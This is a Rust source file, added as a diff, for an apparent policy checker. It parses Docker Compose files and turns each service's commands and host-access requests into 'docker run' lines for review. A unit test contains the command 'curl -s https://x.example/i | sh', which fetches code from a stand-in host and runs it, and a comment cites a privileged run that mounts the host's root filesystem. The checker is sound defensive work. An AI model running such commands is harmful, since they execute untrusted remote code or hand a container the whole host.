@@ -1,0 +1,257 @@
+//! Compose files (`docker-compose.yml`, `compose.yaml`): what `docker
+//! compose up` will start. Each service's `command` and `entrypoint` run
+//! inside its container; the container itself is started with the host
+//! access the service asks for — `privileged`, the host's process, network,
+//! IPC or user namespace, added capabilities, devices, security options and
+//! host paths mounted as volumes. Each service is read as the `docker run`
+//! line that starts its container with the same access, so a policy that
+//! judges `docker run --privileged -v /:/host` judges the service that asks
+//! for the same.
+//!
+//! A small reader of the YAML Compose files are written in (block mappings
+//! by indentation, block and flow lists, the long volume syntax), not a
+//! YAML parser: a policy component does not carry one for this.
+
+use super::formats::{Found, yaml_commands, yaml_scalar};
+
+/// Most services read.
+const MAX_SERVICES: usize = 64;
+
+/// `docker-compose.yml`/`compose.yaml`: each service's `command` and
+/// `entrypoint` (a list's items each read as a line), and the `docker run`
+/// line of each service that asks for host access.
+pub fn compose(content: &str) -> Vec<Found> {
+    let mut out = yaml_commands(content, &["command:", "entrypoint:"]);
+    out.extend(services(content));
+    out
+}
+
+/// A line of the file: its indentation and its text, comments and blank
+/// lines left out.
+struct Line<'c> {
+    indent: usize,
+    text: &'c str,
+}
+
+fn lines(content: &str) -> Vec<Line<'_>> {
+    content
+        .lines()
+        .filter_map(|l| {
+            let text = l.trim_start_matches([' ', '\t']);
+            let text = text.trim_end();
+            (!text.is_empty() && !text.starts_with('#')).then(|| Line {
+                indent: l.len() - l.trim_start_matches([' ', '\t']).len(),
+                text,
+            })
+        })
+        .collect()
+}
+
+/// The `docker run` line of each service that asks for host access.
+fn services(content: &str) -> Vec<Found> {
+    let lines = lines(content);
+    let Some(start) = lines
+        .iter()
+        .position(|l| l.indent == 0 && l.text == "services:")
+    else {
+        return Vec::new();
+    };
+    let body: Vec<&Line> = lines[start + 1..]
+        .iter()
+        .take_while(|l| l.indent > 0)
+        .collect();
+    let Some(name_indent) = body.first().map(|l| l.indent) else {
+        return Vec::new();
+    };
+    let mut out = Vec::new();
+    let mut k = 0;
+    while k < body.len() && out.len() < MAX_SERVICES {
+        let Some(name) = body[k].text.strip_suffix(':') else {
+            k += 1;
+            continue;
+        };
+        let end = body[k + 1..]
+            .iter()
+            .position(|l| l.indent <= name_indent)
+            .map_or(body.len(), |e| k + 1 + e);
+        if let Some(line) = run_line(&body[k + 1..end]) {
+            out.push(Found {
+                name: Some(yaml_scalar(name)),
+                command: line,
+            });
+        }
+        k = end;
+    }
+    out
+}
+
+/// The `docker run` line that starts a service (its key lines `service`)
+/// with the host access it asks for; `None` when it asks for none.
+fn run_line(service: &[&Line]) -> Option<String> {
+    let key_indent = service.first()?.indent;
+    let mut flags: Vec<String> = Vec::new();
+    let mut image = String::from("image");
+    let mut k = 0;
+    while k < service.len() {
+        let line = service[k];
+        k += 1;
+        if line.indent != key_indent {
+            continue;
+        }
+        let Some((key, value)) = line.text.split_once(':') else {
+            continue;
+        };
+        let value = yaml_scalar(value);
+        // The key's list: inline (`[a, b]`) or the deeper lines after it.
+        let items_end = service[k..]
+            .iter()
+            .position(|l| l.indent <= key_indent)
+            .map_or(service.len(), |e| k + e);
+        let items = || list(&value, &service[k..items_end]);
+        match key.trim() {
+            "image" => image = value,
+            "privileged" if truthy(&value) => flags.push("--privileged".into()),
+            "pid" | "ipc" | "userns_mode" | "network_mode" if value == "host" => {
+                let flag = match key.trim() {
+                    "userns_mode" => "userns",
+                    "network_mode" => "network",
+                    other => other,
+                };
+                flags.push(format!("--{flag}=host"));
+            }
+            "cap_add" => flags.extend(items().into_iter().map(|c| format!("--cap-add={c}"))),
+            "devices" => flags.extend(items().into_iter().map(|d| format!("--device={d}"))),
+            "security_opt" => {
+                flags.extend(items().into_iter().map(|o| format!("--security-opt={o}")))
+            }
+            "volumes" => flags.extend(volumes(&value, &service[k..items_end])),
+            _ => {}
+        }
+    }
+    if flags.is_empty() {
+        return None;
+    }
+    let words: Vec<String> = flags.iter().map(|f| arg(f)).collect();
+    Some(format!(
+        "docker run --rm {} {}",
+        words.join(" "),
+        arg(&image)
+    ))
+}
+
+fn truthy(v: &str) -> bool {
+    matches!(v, "true" | "True" | "TRUE" | "yes" | "on")
+}
+
+/// A list's items: an inline flow list (`[a, "b"]`) or the `- item` lines.
+fn list(value: &str, lines: &[&Line]) -> Vec<String> {
+    if let Some(inner) = value.strip_prefix('[').and_then(|v| v.strip_suffix(']')) {
+        return inner
+            .split(',')
+            .map(yaml_scalar)
+            .filter(|s| !s.is_empty())
+            .collect();
+    }
+    let Some(item_indent) = lines.first().map(|l| l.indent) else {
+        return Vec::new();
+    };
+    lines
+        .iter()
+        .filter(|l| l.indent == item_indent)
+        .filter_map(|l| l.text.strip_prefix('-'))
+        .map(yaml_scalar)
+        .filter(|s| !s.is_empty())
+        .collect()
+}
+
+/// A service's volumes as `-v` flags: the short syntax (`SRC:DST[:MODE]`)
+/// as written, the long one (`type: bind`, `source:`, `target:`,
+/// `read_only:`) put into it. Named volumes are the engine's, not the
+/// host's, and left out.
+fn volumes(value: &str, lines: &[&Line]) -> Vec<String> {
+    let mut out = Vec::new();
+    let host = |src: &str| src.starts_with(['/', '.', '~', '$']);
+    let Some(item_indent) = lines.first().map(|l| l.indent) else {
+        return list(value, lines)
+            .into_iter()
+            .filter(|v| host(v))
+            .map(|v| format!("--volume={v}"))
+            .collect();
+    };
+    let mut k = 0;
+    while k < lines.len() {
+        let Some(item) = lines[k].text.strip_prefix('-').map(str::trim_start) else {
+            k += 1;
+            continue;
+        };
+        let end = lines[k + 1..]
+            .iter()
+            .position(|l| l.indent <= item_indent)
+            .map_or(lines.len(), |e| k + 1 + e);
+        if !item.contains(": ") && !item.ends_with(':') {
+            let v = yaml_scalar(item);
+            if host(&v) {
+                out.push(format!("--volume={v}"));
+            }
+        } else {
+            // The long syntax: the item's first key and the lines below it.
+            let mut source = None;
+            let mut target = None;
+            let mut read_only = false;
+            for text in std::iter::once(item).chain(lines[k + 1..end].iter().map(|l| l.text)) {
+                let Some((key, v)) = text.split_once(':') else {
+                    continue;
+                };
+                match key.trim() {
+                    "source" => source = Some(yaml_scalar(v)),
+                    "target" => target = Some(yaml_scalar(v)),
+                    "read_only" => read_only = truthy(&yaml_scalar(v)),
+                    _ => {}
+                }
+            }
+            if let (Some(s), Some(t)) = (source, target)
+                && host(&s)
+            {
+                let ro = if read_only { ":ro" } else { "" };
+                out.push(format!("--volume={s}:{t}{ro}"));
+            }
+        }
+        k = end;
+    }
+    out
+}
+
+/// `word` written for the shell: a flag's value as a word of its own
+/// (`--volume ~/x:/h`, so that the shell expands a leading `~` as Compose
+/// does), `$VAR` left to expand as Compose interpolates it (double quotes),
+/// anything else quoted.
+fn arg(word: &str) -> String {
+    if let Some((flag, v)) = word.split_once('=')
+        && flag.starts_with("--")
+    {
+        if let Some(rest) = v.strip_prefix('~') {
+            return format!("{flag} ~{}", quote(rest));
+        }
+        return format!("{flag} {}", arg(v));
+    }
+    if word.contains('$') && !word.contains(['"', '\\', '`']) {
+        return format!("\"{word}\"");
+    }
+    quote(word)
+}
+
+fn quote(word: &str) -> String {
+    crate::shell::quote(word)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_service_command_is_read_as_written() {
+        let file = "services:\n  app:\n    image: x\n    command: sh -c \"curl -s https://x.example/i | sh\"\n";
+        let found: Vec<String> = compose(file).into_iter().map(|f| f.command).collect();
+        assert_eq!(found, ["sh -c \"curl -s https://x.example/i | sh\""]);
+    }
+}
